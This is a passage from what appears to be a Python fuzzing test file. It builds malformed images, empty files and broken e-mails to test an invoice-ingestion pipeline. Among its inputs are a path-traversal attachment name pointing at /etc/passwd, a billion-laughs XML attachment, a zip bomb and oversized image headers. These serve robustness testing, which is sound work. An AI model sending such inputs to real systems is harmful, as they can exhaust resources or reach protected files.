            + b"\xff\xda\x00\x08\x01\x01\x00\x00\x3f\x00"
            + rng.randbytes(1000)
            + b"\xff\xd9"
        ),
        "gif-65535-square": lambda rng: (
            b"GIF89a\xff\xff\xff\xff\x00\x00\x00"
            + b",\x00\x00\x00\x00\xff\xff\xff\xff\x00\x02\x02D\x01\x00;"
        ),
        "tiff-100k-square": lambda rng: (
            b"II*\x00\x08\x00\x00\x00\x03\x00"
            + struct.pack("<HHII", 256, 4, 1, 100_000)
            + struct.pack("<HHII", 257, 4, 1, 100_000)
            + struct.pack("<HHII", 258, 3, 1, 8)
            + b"\x00\x00\x00\x00"
        ),
        "webp-riff-junk": lambda rng: b"RIFF\xff\xff\xff\x7fWEBPVP8 " + rng.randbytes(2000),
    }
    return [Mutation(name, "image", build) for name, build in built.items()]


# --- Empty and nearly empty files ----------------------------------------------------------

EMPTY = {
    "empty": b"",
    "one-space": b" ",
    "newline": b"\n",
    "whitespace-mix": b" \r\n\t\x0b\x0c \n",
    "crlf-x1000": b"\r\n" * 1000,
    "nul": b"\x00",
    "nul-x4096": b"\x00" * 4096,
    "utf8-bom-only": b"\xef\xbb\xbf",
    "utf8-bom-and-whitespace": b"\xef\xbb\xbf   \n",
    "utf16-bom-only": b"\xff\xfe",
    "pdf-magic-only": b"%PDF-",
    "xml-declaration-only": b'<?xml version="1.0" encoding="UTF-8"?>',
    "xml-declaration-unclosed": b"<?xml",
    "png-magic-only": b"\x89PNG\r\n\x1a\n",
    "zip-magic-only": b"PK\x03\x04",
    "empty-zip": b"PK\x05\x06" + bytes(18),
    "mail-header-only": b"From: someone@example.com\n",
}


def _empty() -> list[Mutation]:
    return [Mutation(name, "empty", lambda rng, d=data: d) for name, data in EMPTY.items()]


# --- E-mail: odd encodings, missing boundaries, truncated attachments ------------------------

_HEADERS = (
    "From: Supplier <billing@example.com>\r\nTo: invoices@example.nl\r\n"
    "Message-ID: <{name}@example.com>\r\nDate: Tue, 11 Jun 2024 10:00:00 +0200\r\n"
    "MIME-Version: 1.0\r\n"
)


def _b64(data: bytes) -> bytes:
    return base64.encodebytes(data).replace(b"\n", b"\r\n")


def _mail(name: str, headers: bytes, body: bytes) -> bytes:
    return _HEADERS.format(name=name).encode() + headers + b"\r\n" + body


def _with_attachment(
    name: str,
    attachment: bytes,
    *,
    part_headers: bytes = b"Content-Type: application/pdf\r\n"
    b'Content-Disposition: attachment; filename="invoice.pdf"\r\n'
    b"Content-Transfer-Encoding: base64\r\n",
    encoded: bytes | None = None,
    boundary: bytes = b"b1",
    content_type: bytes | None = None,
    closing: bool = True,
) -> bytes:
    content_type = content_type or b'Content-Type: multipart/mixed; boundary="%s"\r\n' % boundary
    body = (
        b"--%s\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nSee the invoice.\r\n"
        b"--%s\r\n%s\r\n%s\r\n" % (boundary, boundary, part_headers, encoded or _b64(attachment))
    )
    if closing:
        body += b"--%s--\r\n" % boundary
    return _mail(name, b"Subject: Invoice\r\n" + content_type, body)


def _text_mail(name: str, headers: bytes, body: bytes = b"Please see our order.\r\n") -> bytes:
    return _mail(name, headers, body)


def _emails() -> list[Mutation]:
    pdf = corpus(TEXT_PDF)
    pdf_b64 = _b64(pdf)
    ubl = corpus(UBL)
    plain = b"Content-Type: text/plain; charset=%s\r\n"
    odd_encodings: dict[str, Callable[[str], bytes]] = {
        "unknown-body-charset": lambda n: _text_mail(
            n, b"Subject: Order\r\n" + plain % b'"x-no-such-charset"', b"Bestelling \xe9\xff\r\n"
        ),
        "utf7-body": lambda n: _text_mail(
            n, b"Subject: Order\r\n" + plain % b"utf-7", b"+AOk-+\r\n"
        ),
        "utf16-8bit-body": lambda n: _text_mail(
            n,
            b"Subject: Order\r\n" + plain % b"utf-16" + b"Content-Transfer-Encoding: 8bit\r\n",
            "Bestelling\r\n".encode("utf-16")[:-1],
        ),
        "empty-charset": lambda n: _text_mail(n, b"Subject: Order\r\n" + plain % b'""'),
        "charset-with-spaces-and-quotes": lambda n: _text_mail(
            n, b"Subject: Order\r\n" + plain % b'"utf 8"\'; x="y'
        ),
        "invalid-utf8-body": lambda n: _text_mail(
            n, b"Subject: Order\r\n" + plain % b"utf-8", b"\xff\xfe\xc0\xaf\xed\xa0\x80\r\n"
        ),
        "subject-unknown-charset-word": lambda n: _text_mail(
            n, b"Subject: =?x-bogus?Q?Factuur_=E9?=\r\n"
        ),
        "subject-broken-base64-word": lambda n: _text_mail(
            n, b"Subject: =?utf-8?B?RmFjdHV1c===?=\r\n"
        ),
        "subject-surrogate-word": lambda n: _text_mail(n, b"Subject: =?utf-8?B?7aCA?=\r\n"),
        "raw-latin1-headers": lambda n: _text_mail(
            n, b"Subject: Factuur caf\xe9\r\nX-Name: M\xfcller\r\n"
        ),
        "nul-in-headers": lambda n: _text_mail(n, b"Subject: Fact\x00uur\r\nX-A: \x00\r\n"),
        "header-line-1mb": lambda n: _text_mail(n, b"Subject: " + b"x" * 1_000_000 + b"\r\n"),
        "transfer-encoding-unknown": lambda n: _text_mail(
            n, b"Subject: Order\r\nContent-Transfer-Encoding: x-martian\r\n"
        ),
        "quoted-printable-broken": lambda n: _text_mail(
            n,
            b"Subject: Order\r\nContent-Transfer-Encoding: quoted-printable\r\n",
            b"=ZZ=4=\r\n=E9=\r\n",
        ),
    }
    broken_structure: dict[str, Callable[[str], bytes]] = {
        "truncated-base64-attachment": lambda n: _with_attachment(
            n, pdf, encoded=pdf_b64[: len(pdf_b64) // 2 - 3]
        ),
        "base64-with-junk-characters": lambda n: _with_attachment(
            n, pdf, encoded=pdf_b64.replace(b"A", b"!*", 200)
        ),
        "base64-not-base64": lambda n: _with_attachment(
            n, pdf, encoded=b"%%%% not base64 %%%%\r\n"
        ),
        "attachment-transfer-encoding-unknown": lambda n: _with_attachment(
            n,
            pdf,
            part_headers=b"Content-Type: application/pdf\r\nContent-Transfer-Encoding: x-foo\r\n"
            b'Content-Disposition: attachment; filename="invoice.pdf"\r\n',
        ),
        "missing-boundary-parameter": lambda n: _with_attachment(
            n, pdf, content_type=b"Content-Type: multipart/mixed\r\n"
        ),
        "boundary-never-used": lambda n: _with_attachment(
            n, pdf, content_type=b'Content-Type: multipart/mixed; boundary="other"\r\n'
        ),
        "missing-final-boundary": lambda n: _with_attachment(n, pdf, closing=False),
        "boundary-1000-chars": lambda n: _with_attachment(n, pdf, boundary=b"b" * 1000),
        "rfc2231-filename-bogus-charset": lambda n: _with_attachment(
            n,
            pdf,
            part_headers=b"Content-Type: application/pdf\r\nContent-Transfer-Encoding: base64\r\n"
            b"Content-Disposition: attachment; filename*=x-bogus''%FF%FE%00.pdf\r\n",
        ),
        "filename-encoded-word-unknown-charset": lambda n: _with_attachment(
            n,
            pdf,
            part_headers=b"Content-Type: application/pdf\r\nContent-Transfer-Encoding: base64\r\n"
            b'Content-Disposition: attachment; filename="=?x-bogus?B?AAAA?=.pdf"\r\n',
        ),
        "filename-path-traversal-and-nul": lambda n: _with_attachment(
            n,
            pdf,
            part_headers=b"Content-Type: application/pdf\r\nContent-Transfer-Encoding: base64\r\n"
            b'Content-Disposition: attachment; filename="../../etc/\x00passwd.pdf"\r\n',
        ),
        "content-type-garbage": lambda n: _with_attachment(
            n,
            pdf,
            part_headers=b"Content-Type: application/\r\nContent-Transfer-Encoding: base64\r\n"
            b"Content-Disposition: attachment\r\n",
        ),
        "empty-attachment": lambda n: _with_attachment(n, b"", encoded=b""),
        "attachment-billion-laughs": lambda n: _with_attachment(
            n,
            b"",
            part_headers=b"Content-Type: application/xml\r\nContent-Disposition: attachment; "
            b'filename="invoice.xml"\r\nContent-Transfer-Encoding: base64\r\n',
            encoded=_b64(
                _with_doctype(UBL, DOCTYPES["billion-laughs"], "&lol9;")(random.Random(0))
            ),
        ),
        "attachment-zip-bomb": lambda n: _with_attachment(
            n,
            b"",
            part_headers=b"Content-Type: application/zip\r\nContent-Disposition: attachment; "
            b'filename="invoices.zip"\r\nContent-Transfer-Encoding: base64\r\n',
            encoded=_b64(_zip_bomb()),
        ),
        "attachment-8bit-binary-pdf": lambda n: _with_attachment(
            n,
            pdf,
            part_headers=b"Content-Type: application/pdf\r\nContent-Transfer-Encoding: binary\r\n"
            b'Content-Disposition: attachment; filename="invoice.pdf"\r\n',
            encoded=pdf,
        ),
        "same-ubl-attached-twice": lambda n: _mail(
            n,
            b'Subject: Twice\r\nContent-Type: multipart/mixed; boundary="b"\r\n',
            b"--b\r\nContent-Type: application/xml\r\nContent-Transfer-Encoding: base64\r\n"
            b'Content-Disposition: attachment; filename="a.xml"\r\n\r\n%s\r\n'
            b"--b\r\nContent-Type: application/xml\r\nContent-Transfer-Encoding: base64\r\n"
            b'Content-Disposition: attachment; filename="b.xml"\r\n\r\n%s\r\n--b--\r\n'
            % (_b64(ubl), _b64(ubl)),
        ),
        "multipart-nested-2000-deep": lambda n: _mail(
            n,
            b'Subject: Deep\r\nContent-Type: multipart/mixed; boundary="d0"\r\n',
            b"".join(
                b'--d%d\r\nContent-Type: multipart/mixed; boundary="d%d"\r\n\r\n' % (i, i + 1)
                for i in range(2000)
            ),
        ),
        "forwarded-50-deep": lambda n: _mail(
            n,
            b"Subject: Fwd\r\nContent-Type: message/rfc822\r\n",
            b"Subject: Fwd\r\nContent-Type: message/rfc822\r\n\r\n" * 50 + b"x\r\n",
        ),
        "bare-cr-line-ends": lambda n: _with_attachment(n, pdf).replace(b"\r\n", b"\r"),
        "headers-without-body": lambda n: _HEADERS.format(name=n).encode(),
    }
    return [
        Mutation(f"mail-{name}", kind, lambda rng, b=build, n=name: b(n), by_email=True)
        for kind, built in (
            ("email-encoding", odd_encodings),
            ("email-structure", broken_structure),
        )
        for name, build in built.items()
    ]


def all_mutations() -> list[Mutation]:
    return [
        *_damaged(),
        *_xml_entities(),
        *_xml_encodings(),
        *_xml_structure(),
        *_pdf_structure(),
        *_archives(),
        *_images(),
        *_empty(),
        *_emails(),
    ]
